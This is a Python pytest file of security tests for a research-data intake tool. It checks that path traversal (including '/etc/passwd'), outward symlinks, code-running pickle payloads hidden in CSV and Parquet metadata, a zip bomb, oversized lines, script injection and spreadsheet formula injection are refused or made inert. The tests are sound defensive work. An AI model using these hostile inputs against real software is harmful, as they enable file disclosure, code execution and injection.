"""Deliveries made to do harm: refused in one message, or harmless."""

from __future__ import annotations

import base64
import io
import os
import pickle
import tracemalloc
import zipfile
from contextlib import suppress

import pyarrow as pa
import pytest
from pyarrow import parquet
from tests.small_studies import DIARY_CSV, FILES, PEOPLE_CSV, TOML, write_study

from couples_study.cli import main
from couples_study.core.errors import CouplesStudyError
from couples_study.pipeline import run_intake, run_report
from couples_study.pipeline.export import run_export

FORMULA = '=HYPERLINK("http://example.org/"&A1)'
FORMULA_LABEL = "=1+cmd"
SCRIPT = "<script>alert(1)</script>"


class Payload:
    """What runs a command when it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.mkdir, (str(self.marker),)


def refused(folder, out, capsys):
    assert main(["intake", str(folder), "--out", str(out)]) == 1
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith("couples-study: ")
    assert len(said.err) < 2000
    assert not out.exists()
    return said.err


@pytest.mark.parametrize(
    "files",
    ["../secret.csv", "a/../../secret.csv", "/etc/passwd", "~/secret.csv", "..\\\\secret.csv", "file:///etc/passwd"],
)
def test_no_pattern_leaves_the_folder(tmp_path, capsys, files):
    (tmp_path / "secret.csv").write_text(PEOPLE_CSV, "utf-8")
    folder = write_study(tmp_path / "study", TOML.replace('files = "people.csv"', f'files = "{files}"'))
    assert "without '..'" in refused(folder, tmp_path / "out", capsys)


@pytest.mark.parametrize("name", ["../evil", "a/b", "..", "C:evil"])
def test_no_name_of_a_source_leaves_the_folder(tmp_path, capsys, name):
    toml = TOML.replace('table = "people"', f'table = "people"\nname = "{name}"')
    refused(write_study(tmp_path / "study", toml), tmp_path / "out", capsys)


def test_an_export_that_is_a_link_out_of_the_folder_is_refused(tmp_path, capsys):
    folder = write_study(tmp_path / "study")
    (folder / "people.csv").rename(tmp_path / "elsewhere.csv")
    (folder / "people.csv").symlink_to(tmp_path / "elsewhere.csv")
    assert "a link that leads out of it" in refused(folder, tmp_path / "out", capsys)


def test_a_link_within_the_folder_is_read(tmp_path):
    folder = write_study(tmp_path / "study")
    (folder / "people.csv").rename(folder / "people_1.csv")
    (folder / "people.csv").symlink_to("people_1.csv")
    assert run_intake(str(folder), tmp_path / "out").rows_held == 0


def test_a_pickle_under_another_name_is_not_run(tmp_path, capsys):
    folder = write_study(tmp_path / "study", files={**FILES, "people.csv": pickle.dumps(Payload(tmp_path / "ran"))})
    refused(folder, tmp_path / "out", capsys)
    assert not (tmp_path / "ran").exists()


def test_hostile_metadata_of_a_parquet_file_is_not_run(tmp_path):
    payload = pickle.dumps(Payload(tmp_path / "ran"))
    told = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": payload}
    text = pa.string()
    fields = [pa.field(name, text, metadata=told if name == "sex" else None) for name in ("dyad", "pid", "sex")]
    rows = [line.split(",")[:3] for line in PEOPLE_CSV.splitlines()[1:]]
    notes = {b"pandas": base64.b64encode(payload), b"ARROW:schema": b"\xff" * 64}
    table = pa.table([pa.array(column) for column in zip(*rows, strict=True)], pa.schema(fields, metadata=notes))
    sink = io.BytesIO()
    parquet.write_table(table, sink, store_schema=False)
    toml = TOML.replace('"csv"\nfiles = "people.csv"', '"parquet"\nfiles = "people.parquet"')
    folder = write_study(tmp_path / "study", toml, {**FILES, "people.parquet": sink.getvalue()})
    with suppress(CouplesStudyError):
        run_intake(str(folder), tmp_path / "out")
    assert not (tmp_path / "ran").exists()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, capsys):
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(128):
                sheet.write(bytes(1 << 20))
    toml = TOML.replace('"csv"\nfiles = "people.csv"', '"excel"\nfiles = "people.xlsx"')
    folder = write_study(tmp_path / "study", toml, {**FILES, "people.xlsx": sink.getvalue()})
    refused(folder, tmp_path / "out", capsys)


@pytest.mark.parametrize("place", ["header", "row"])
def test_a_line_of_many_megabytes_is_not_repeated(tmp_path, capsys, place):
    long = "secretanswer" * 2_000_000
    text = f"{long}\n{DIARY_CSV}" if place == "header" else f"{DIARY_CSV}1,a,2,{long}\n"
    folder = write_study(tmp_path / "study", files={**FILES, "diary.csv": text})
    assert "secretanswer" not in refused(folder, tmp_path / "out", capsys)


@pytest.mark.parametrize("filled", [b"\0", b"secretanswer"], ids=["a hole", "text"])
def test_a_line_of_two_gigabytes_is_refused_before_it_is_in_memory(tmp_path, capsys, filled):
    """The file is a hole on disk; of text the part that is looked at is there."""
    folder = write_study(tmp_path / "study")
    with (folder / "diary.csv").open("ab") as file:
        if filled != b"\0":
            file.write(filled * ((80 << 20) // len(filled)))
        file.truncate(2 << 30)
    tracemalloc.start()
    said = refused(folder, tmp_path / "out", capsys)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    (folder / "diary.csv").unlink()
    assert "lines of at most 64 megabytes" in said
    assert "secretanswer" not in said
    assert peak < 200 << 20


def test_scripts_in_labels_and_answers_are_text_on_every_page(tmp_path):
    toml = TOML.replace("A small study", SCRIPT).replace('f = "woman"', f'f = "{SCRIPT}"')
    diary = DIARY_CSV.replace("yes", SCRIPT)
    folder = write_study(tmp_path / "study", toml, {**FILES, "diary.csv": diary})
    done = run_report(str(folder), tmp_path / "out")
    pages = [path for path in done.written if path.suffix in (".html", ".svg")]
    assert len(pages) >= 2
    for page in pages:
        assert SCRIPT not in page.read_text("utf-8")


def test_scripts_and_formulas_are_text_in_an_export(tmp_path, monkeypatch):
    monkeypatch.setenv("COUPLES_STUDY_SECRETS", str(tmp_path / "secrets"))
    toml = TOML.replace("A small study", SCRIPT).replace('f = "woman"', f'f = "{FORMULA_LABEL}"')
    folder = write_study(tmp_path / "study", toml)
    for path in run_export(str(folder), "supervisor", tmp_path / "out"):
        text = path.read_text("utf-8")
        assert SCRIPT not in text or path.suffix != ".html"
        assert not [line for line in text.splitlines() if path.suffix == ".csv" and line.startswith(("=", "+", "@"))]
        assert path.suffix != ".csv" or f",{FORMULA_LABEL}" not in text


def test_formulas_in_held_rows_are_text_in_a_spreadsheet(tmp_path):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    diary = DIARY_CSV.replace("1,a,0,10", f"1,a,0,{quoted}").replace("2,c,0,50", "2,c,0,-77")
    folder = write_study(tmp_path / "study", files={**FILES, "diary.csv": diary})
    done = run_intake(str(folder), tmp_path / "out")
    assert done.rows_held == 2
    held = next(path for path in done.written if path.parent.name == "quarantine").read_text("utf-8")
    assert "'=HYPERLINK" in held
    assert ",-77," in held
